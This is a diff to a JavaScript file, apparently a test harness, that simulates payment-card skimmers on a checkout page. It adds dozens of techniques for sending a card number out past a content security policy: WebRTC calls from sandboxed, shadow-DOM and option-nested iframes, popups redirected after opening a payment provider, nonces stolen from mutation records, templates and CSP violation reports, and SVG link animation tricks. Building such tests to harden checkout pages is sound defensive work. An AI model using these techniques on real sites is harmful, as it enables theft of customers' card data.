@@ -3,7 +3,8 @@
 "use strict";
 (() => {
   const nonce = document.currentScript.nonce;
-  const { https } = document.currentScript.dataset;
+  // In a frame that is of a skimmer's making it runs at once, with the card that it was given.
+  const { https, now } = document.currentScript.dataset;
   // Each with a port for STUN of its own.
   const wanted = new Map(document.currentScript.dataset.run.split(",").map((word) => word.split(":")));
   let run = "";
@@ -36,6 +37,39 @@
     return name;
   };
   const place = () => document.querySelector("#place");
+  /** A page of text with this script in it. */
+  const text = (card, way) =>
+    `<script src="${location.origin}/skimmers.js" data-run="${way}:${stun}" data-https="${https}" data-now="${card}"><\/script>`;
+  /** A text that has a frame in it, and code that runs as soon as it is put in. */
+  const upgraded = (name) => {
+    const port = stun;
+    customElements.define(name, class extends HTMLElement {
+      constructor() {
+        call(window[window.length - 1].RTCPeerConnection, port);
+        super();
+      }
+    });
+    return `<iframe></iframe><${name}></${name}>`;
+  };
+  const chosen = (tree) => {
+    const choice = document.createElement("option");
+    choice.append(tree);
+    return choice;
+  };
+  const asked = new URL(location).searchParams;
+  // What comes behind this script in the page: its tags, as they are put in, and what was in their attributes.
+  let [late, veiled] = [null, ""];
+  new MutationObserver((records) => {
+    for (const { addedNodes, oldValue } of records) {
+      veiled ||= oldValue ?? "";
+      for (const node of addedNodes) if (node.localName === "script") late ??= node.cloneNode();
+    }
+  }).observe(document, { subtree: true, childList: true, attributes: true, attributeOldValue: true, attributeFilter: ["nonce"] });
+  const load = (card, made) => {
+    made.src = at(card);
+    document.body.append(made);
+  };
+  const loadBy = (card, found) => load(card, Object.assign(document.createElement("script"), { nonce: found }));
   const own = (text) => {
     const made = document.createElement("script");
     made.nonce = nonce;
@@ -185,8 +219,19 @@
       const port = stun;
       const root = element("div", {}).attachShadow({ mode: "closed" });
       const made = document.createElement("iframe");
-      made.addEventListener("load", () => call(window[length - 1].RTCPeerConnection, port));
+      // No list of windows has it.
+      made.addEventListener("load", () => call(made.contentWindow.RTCPeerConnection, port));
       root.append(made);
+    },
+    "frame-in-a-shadow-at-once"() {
+      const made = document.createElement("iframe");
+      element("div", {}).attachShadow({ mode: "open" }).append(made);
+      return call(made.contentDocument.defaultView.RTCPeerConnection, stun);
+    },
+    "window-by-a-frame-in-a-shadow"(card) {
+      const made = document.createElement("iframe");
+      element("div", {}).attachShadow({ mode: "open" }).append(made);
+      made.contentWindow.open(at(card));
     },
     "frame-in-an-element"() {
       customElements.define("x-y", class extends HTMLElement {
@@ -240,11 +285,83 @@
       Object.prototype.get = lie;
       location = at(card);
     },
-    "nonce-taken"(card) {
-      const made = document.createElement("script");
-      made.nonce = document.querySelector("script[src]").nonce;
-      made.src = at(card);
-      document.body.append(made);
+    "window-that-opened-this": (card) =>
+      element("a", { href: `/checkout?run=none:0&second=${encodeURIComponent(at(card))}`, target: "second" }).click(),
+    "window-of-a-provider"(card) {
+      const [url, other] = [at(card), window.open("https://www.paypal.com/")];
+      setTimeout(() => { other.location = url; }, 800);
+    },
+    "window-of-a-mail"(card) {
+      window.open("mailto:shop@shop.test").location = at(card);
+    },
+    "window-above-all"() {
+      const port = stun;
+      return documentPictureInPicture.requestWindow().then((other) => call(other.RTCPeerConnection, port));
+    },
+    "frame-in-a-sandbox": (card) => element("iframe", { sandbox: "allow-scripts", srcdoc: text(card, "webrtc") }),
+    "frame-in-a-sandbox-by-text"(card) {
+      element("div", {}).innerHTML = `<iframe sandbox="allow-scripts" srcdoc="${text(card, "webrtc").replaceAll('"', "&quot;")}"></iframe>`;
+    },
+    "frame-that-leaves-from-a-sandbox": (card) =>
+      element("iframe", { sandbox: "allow-scripts allow-top-navigation", srcdoc: `${text(card, "above")}<input value="${at(card)}">` }),
+    "frame-given-a-page"(card) {
+      element("iframe", {}).srcdoc = text(card, "webrtc");
+    },
+    "frame-given-a-page-in-a-sandbox"(card) {
+      const made = element("iframe", { sandbox: "allow-scripts" });
+      const page = document.createAttribute("srcdoc");
+      made.setAttributeNode(page);
+      page.value = text(card, "webrtc");
+      made.removeAttribute("srcdoc");
+      made.attributes.setNamedItem(Object.assign(document.createAttribute("srcdoc"), { value: text(card, "webrtc") }));
+    },
+    "frame-in-an-option"() {
+      element("select", {}).options[0] = chosen(document.createElement("iframe"));
+      return call(window[length - 1].RTCPeerConnection, stun);
+    },
+    "frame-in-an-option-of-a-text"() {
+      const kept = document.createElement("template");
+      kept.innerHTML = "<option><b><iframe></iframe></b></option>";
+      element("select", {})[0] = kept.content.firstChild;
+      return call(window[length - 1].RTCPeerConnection, stun);
+    },
+    "frame-in-an-option-of-another-page"() {
+      const page = new DOMParser().parseFromString('<option xmlns="http://www.w3.org/1999/xhtml"><iframe/></option>', "text/xml");
+      element("select", {})[0] = page.documentElement;
+      return call(window[length - 1].RTCPeerConnection, stun);
+    },
+    "frame-by-text-beside-an-element"() {
+      element("div", {}).innerHTML = upgraded("x-beside");
+    },
+    "lists-changed-for-a-link"(card) {
+      const url = at(card);
+      Array.prototype[Symbol.iterator] = function* () {};
+      const link = document.createElement("a");
+      link.href = url;
+      link.target = "_blank";
+      document.body.append(link);
+      link.click();
+    },
+    "lists-changed-for-a-window"(card) {
+      const url = at(card);
+      for (const at of [0, 1, 2]) Object.defineProperty(Array.prototype, at, { get: () => "", set() {} });
+      const other = window.open("https://www.paypal.com/");
+      setTimeout(() => { other.location = url; }, 800);
+    },
+    "nonce-taken": (card) => loadBy(card, document.querySelector("script[src]").nonce),
+    "nonce-of-a-record": (card) => loadBy(card, veiled),
+    "nonce-of-a-template": (card) => loadBy(card, document.querySelector("#kept").content.querySelector("script").getAttribute("nonce")),
+    "nonce-of-a-copy": (card) => load(card, late),
+    "nonce-of-a-report"(card) {
+      const url = at(card);
+      new ReportingObserver((reports, watch) => {
+        watch.disconnect();
+        const made = document.createElement("script");
+        made.nonce = /'nonce-([^']+)'/.exec(JSON.stringify(reports))[1];
+        made.src = url;
+        document.body.append(made);
+      }, { types: ["csp-violation"] }).observe();
+      element("script", { src: "https://nobody.evil.test/" });
     },
     "nonce-of-the-policy"(card) {
       const url = at(card);
@@ -256,6 +373,7 @@
       }, { once: true });
       element("script", { src: "https://nobody.evil.test/" });
     },
+    ...globalThis.freshFrames({ element, at }),
     "worker-of-text"(card) {
       new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(at(card))}, { mode: "no-cors" })`])));
     },
@@ -274,6 +392,8 @@
     place().innerHTML = `<svg width="300" height="60">${text.replace("<w/>", '<text y="40" font-size="40">Continue to pay</text>')}</svg>`;
     return document.querySelector("#place svg");
   };
+  const used = (card, use, more = []) =>
+    drawing(`<defs><g id="used"><a target="_blank" href="${at(card)}"><w/></a></g>${more.join("")}</defs>${use}`.replaceAll("<w/>", '<text y="40" font-size="40">Continue to pay</text>'));
   // Links that wait for a person.
   const links = {
     "link-put-in-at-the-click"(card) {
@@ -307,6 +427,8 @@
       link.addEventListener("click", () => link.setAttributeNS("http://www.w3.org/1999/xlink", "href", url));
     },
     "link-in-motion": (card) => drawing(`<a target="_blank" href="/blank"><set attributeName="href" to="${at(card)}"/><w/></a>`),
+    "link-in-motion-to-be-saved": (card) =>
+      drawing(`<a target="_blank" download="" href="${blob("")}"><set attributeName="href" to="${at(card)}"/><w/></a>`),
     "link-put-in-motion"(card) {
       const picture = drawing(`<a target="_blank" href="/blank"><set attributeName="href" to="${at(card)}" begin="indefinite"/><w/></a>`);
       picture.firstChild.addEventListener("click", () => {
@@ -314,24 +436,57 @@
         picture.setCurrentTime(picture.getCurrentTime() + 1);
       });
     },
+    "link-in-a-sandbox": (card) => element("iframe", {
+      sandbox: "allow-popups", height: 60, srcdoc: `<body style="margin: 0; font-size: 40px"><a target="_blank" href="${at(card)}">Continue to pay</a>`,
+    }, place()),
+    "link-given-an-address"(card) {
+      const [url, link] = [at(card), drawing('<a target="_blank" href="/blank"><w/></a>').firstChild];
+      link.addEventListener("click", () => { link.href.baseVal = url; });
+    },
+    "link-given-a-motion"(card) {
+      const picture = drawing(`<a target="_blank" href="/blank"><set attributeName="x" to="${at(card)}" begin="0s"/><w/></a>`);
+      picture.firstChild.addEventListener("click", () => {
+        picture.querySelector("set").setAttribute("attributeName", "href");
+        picture.setCurrentTime(1);
+      });
+    },
+    "link-used-by-an-escape": (card) => used(card, '<use href="#us%65d"/>'),
+    "link-used-by-a-blank": (card) => used(card, '<use href="#used "/>'),
+    "link-used-by-a-line-end": (card) => used(card, '<use href="#us&#10;ed"/>'),
+    "link-used-in-a-row": (card) => used(card, '<use href="#u8"/>', [1, 2, 3, 4, 5, 6, 7, 8].map((at) => `<g id="u${at}"><use href="#${at > 1 ? `u${at - 1}` : "used"}"/></g>`)),
+    "link-used-in-motion": (card) => used(card, '<use href="#safe"><set attributeName="href" to="#used"/></use>', ['<g id="safe"><w/></g>']),
+    "link-used-from-nothing": (card) => used(card, '<use href="#none"><set attributeName="href" to="#used"/></use>'),
     "link-used": (card) => drawing(`<defs><g id="used"><a target="_blank" href="${at(card)}"><w/></a></g></defs><use href="#used"/>`),
   };
 
-  const go = { ...ways, ...tricks, ...links };
+  /** What one in a frame, or in a second window, does there. */
+  const there = { above() { top.location = document.querySelector("input").value; } };
+  const go = { ...ways, ...tricks, ...links, ...there };
+  const start = (card) => {
+    for (const [name, port] of wanted) {
+      [run, stun] = [name, port];
+      try {
+        // What refuses is asked no further: stolen code keeps quiet.
+        const done = go[name](card);
+        if (done instanceof Promise) done.catch(() => {});
+      } catch { /* refused */ }
+    }
+    document.documentElement.dataset.ran = "yes";
+  };
   window.skimmers = { ways: Object.keys(ways), tricks: Object.keys(tricks), links: Object.keys(links) };
-  if (!wanted.has("")) {
+  const [second, first] = [asked.get("second"), window.opener];
+  if (second && first) {
+    // A page of the shop that nobody guards, and that has no script of its own: its natives are taken.
+    first.location = "/blank";
+    setInterval(() => first.location.pathname === "/blank" && first.fetch(second, { mode: "no-cors" }), 300);
+  }
+  if (now) addEventListener("DOMContentLoaded", () => start(now));
+  // Another host's window that opened this page asks.
+  addEventListener("message", ({ data, source }) => data === "which card?" && source.postMessage(document.querySelector("#card").value, "*"));
+  if (!now && !wanted.has("")) {
     document.querySelector("#pay").addEventListener("click", (event) => {
       event.preventDefault();
-      const card = document.querySelector("#card").value;
-      for (const [name, port] of wanted) {
-        [run, stun] = [name, port];
-        try {
-          // What refuses is asked no further: stolen code keeps quiet.
-          const done = go[name](card);
-          if (done instanceof Promise) done.catch(() => {});
-        } catch { /* refused */ }
-      }
-      document.documentElement.dataset.ran = "yes";
+      start(document.querySelector("#card").value);
     });
   }
 })();
